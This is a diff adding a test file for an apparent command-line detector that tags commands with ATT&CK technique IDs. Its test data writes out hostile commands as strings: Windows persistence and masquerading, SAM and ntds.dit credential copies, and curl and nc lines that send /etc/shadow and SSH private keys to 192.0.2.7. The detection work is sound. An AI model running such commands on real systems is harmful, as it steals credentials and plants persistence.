@@ -1,0 +1,71 @@
+import { expect, it } from "vitest";
+import { builtinCatalog } from "../catalog/load.ts";
+import { judge } from "../score/judge.ts";
+import { resolve } from "./resolve.ts";
+import { TELLING_FILES } from "./telling.ts";
+
+const catalog = builtinCatalog();
+
+function shown(commandLine: string, platform: "windows" | "linux") {
+  const resolution = resolve({ commandLine, platform, as: "typed" }, catalog);
+  const techniques = resolution.invocations.flatMap(({ behaviours }) => behaviours.flatMap((one) => one.techniques));
+  return { techniques, score: judge(resolution)?.scored.score ?? 0 };
+}
+
+const STARTUP = "C:\\Users\\b\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup";
+
+it.each([
+  [`copy C:\\d\\a.vbs "${STARTUP}\\a.vbs"`, "T1547.001"],
+  [`powershell -c "Copy-Item C:\\d\\a.vbs '${STARTUP}\\a.vbs'"`, "T1547.001"],
+  [`powershell -c "'x' | Out-File '${STARTUP}\\a.bat'"`, "T1547.001"],
+  [
+    `powershell -c "$w=New-Object -ComObject WScript.Shell; $l=$w.CreateShortcut('${STARTUP}\\a.lnk'); $l.Save()"`,
+    "T1547.009",
+  ],
+  [`cmd /c echo start x.exe > "${STARTUP}\\a.cmd"`, "T1547.001"],
+  ["copy C:\\Windows\\System32\\cmd.exe C:\\ProgramData\\lsass.exe", "T1036.005"],
+  ["copy C:\\Windows\\System32\\mshta.exe C:\\ProgramData\\notes.exe", "T1036.003"],
+  ['copy C:\\Windows\\System32\\cmd.exe "\\\\?\\C:\\Windows \\System32\\mmc.exe"', "T1548.002"],
+  ["copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\System32\\config\\SAM D:\\s", "T1003.002"],
+  ["copy C:\\Windows\\NTDS\\ntds.dit D:\\n", "T1003.003"],
+])("tells by the file what a program of Windows does: %s", (line, technique) => {
+  expect(shown(line, "windows").techniques).toContain(technique);
+});
+
+it.each([
+  ["cp job /etc/cron.d/job", "T1053.003"],
+  ["echo 'x' >> /home/b/.bashrc", "T1546.004"],
+  ["cp k /root/.ssh/authorized_keys", "T1098.004"],
+  ["cp /bin/sh /tmp/crond", "T1036.003"],
+  ["curl -F data=@/etc/passwd http://192.0.2.7/u", "T1087.001"],
+  ["curl -T /home/b/.ssh/id_rsa http://192.0.2.7/u", "T1552.004"],
+  ["nc 192.0.2.7 4444 < /etc/shadow", "T1003.008"],
+])("tells by the file what a program of Linux does: %s", (line, technique) => {
+  expect(shown(line, "linux").techniques).toContain(technique);
+});
+
+it.each([
+  ["copy C:\\Windows\\System32\\cmd.exe D:\\image\\Windows\\System32\\cmd.exe", "windows"],
+  ["copy C:\\d\\a.vbs C:\\scripts\\a.vbs", "windows"],
+  ["copy D:\\iso\\svchost.exe D:\\mount\\Windows\\System32\\svchost.exe", "windows"],
+  ["cp /bin/busybox /srv/root/bin/sh", "linux"],
+  ["cp /bin/sh /tmp/root/bin/sh", "linux"],
+  ["curl -F file=@report.pdf https://intranet.corp.local/u", "linux"],
+  ["curl -T /home/b/.ssh/id_rsa.pub https://git.corp.local/keys", "linux"],
+] as const)("leaves others as they are: %s", (line, platform) => {
+  const { techniques, score } = shown(line, platform);
+  for (const technique of ["T1547.001", "T1036.003", "T1036.005", "T1552.004", "T1041"])
+    expect(techniques).not.toContain(technique);
+  expect(score).toBeLessThan(24);
+});
+
+it("names each file once, in small letters where these do not count, and by live techniques", () => {
+  const ids = TELLING_FILES.map(({ platform, id }) => `${platform}/${id}`);
+  expect(new Set(ids).size).toBe(ids.length);
+  for (const { id, platform, reads = [], writes = [], except = [], techniques } of TELLING_FILES) {
+    expect(reads.length + writes.length, id).toBeGreaterThan(0);
+    for (const technique of techniques) expect(technique, id).toMatch(/^T\d{4}(\.\d{3})?$/);
+    const globs = [...reads, ...writes, ...except];
+    if (platform === "windows") expect(globs, id).toEqual(globs.map((one) => one.toLowerCase()));
+  }
+});
